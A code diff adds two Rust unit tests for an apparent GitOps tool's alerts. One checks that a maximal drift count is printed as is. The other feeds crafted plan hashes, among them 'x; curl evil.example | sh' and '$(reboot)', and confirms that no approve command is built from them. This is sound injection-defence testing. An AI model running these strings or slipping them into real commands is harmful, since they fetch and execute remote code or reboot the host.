@@ -182,3 +182,26 @@ fn a_key_is_read_as_it_is_printed() {
         assert!(found.is_none() || bad == "Drifted", "{found:?}");
     }
 }
+
+#[test]
+fn counts_that_somebody_made_up_are_as_large_as_a_count_can_be() {
+    let level = |count: u32| json!({"count": count, "fields": [field("shop/orders", "Deployment", "Modified")]});
+    let drift = json!({"sourceDrift": level(u32::MAX), "workloadDrift": level(7)});
+    let seen = service(&[condition("Ready", "True", "Available")], drift);
+    let text = &seen.standing.iter().find(|one| one.key.kind == AlertKind::Drifted).unwrap().text;
+    assert_eq!(text, "4294967295 fields of shop/orders differ from what is declared");
+}
+
+#[test]
+fn a_hash_that_somebody_made_up_is_told_and_is_no_part_of_a_command() {
+    let held = |plan: &str| {
+        let hold = json!({"plan": plan, "revision": "main@sha1:1", "reason": "PruneBudget", "message": "too many",
+            "since": "2026-01-01T00:00:00Z"});
+        let seen = sync(&[condition("Ready", "False", "PlanHeld")], json!({"hold": hold}));
+        seen.standing.into_iter().find(|one| one.key.kind == AlertKind::PlanHeld).unwrap().command
+    };
+    assert_eq!(held("0123abcd").as_deref(), Some("gitmoor approve shop/main --plan 0123abcd"));
+    for plan in ["x; curl evil.example | sh", "$(reboot)", "--help", ""] {
+        assert_eq!(held(plan), None, "{plan}");
+    }
+}
